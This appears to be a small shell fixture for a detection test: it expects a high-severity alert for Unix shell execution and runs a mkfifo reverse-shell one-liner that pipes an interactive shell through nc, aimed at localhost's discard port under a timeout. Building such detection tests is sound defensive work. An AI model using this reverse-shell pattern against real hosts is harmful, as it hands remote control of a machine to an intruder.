# expects: high T1059.004
. "$STAGE/act.sh"
stand_in nc
timeout 5 sh -c 'mkfifo /tmp/f; (sleep 1; echo exit > /tmp/f) & cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 9 > /dev/null'
